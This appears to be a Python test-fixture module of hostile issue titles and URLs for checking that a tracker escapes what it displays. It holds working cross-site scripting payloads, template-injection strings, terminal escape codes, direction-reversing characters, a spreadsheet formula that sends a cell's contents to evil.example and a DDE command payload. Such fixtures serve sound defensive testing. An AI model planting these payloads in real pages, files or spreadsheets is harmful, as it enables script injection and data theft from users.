"""What trackers may say, and no page, table, picture or terminal may be moved by."""

TITLES = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "turned": "safe\u202eevil\u202c \u2066hidden\u2069 \u200bzero\ufeff",
    "control": "\x1b[31mred\x07\x00 two\nlines\u2028three",
    "long": "A" * 10_000,
    "template": "{{ 7*7 }} {% include 'x' %} ${7*7}",
    "picture": "</svg></title><svg onload=alert(3)><foreignObject><iframe src=//evil.example></svg>",
    "style": "</style><link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content=0;//evil>",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿" * 60,
    "stacked": "Z" + "\u0351\u0300\u0317" * 200 + "algo",
    "arabic": "عطل في الدفع",
}
ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://me@evil.example/",
    "http://[",
    "JaVaScRiPt\t:alert(1)",
    "vbscript:x",
)
INVISIBLE = frozenset("\u202e\u202c\u2066\u2069\u200b\ufeff\u2028\x1b\x07\x00")
"""Of these titles what no reader is to be shown: marks that turn the reading direction, and what moves a terminal."""
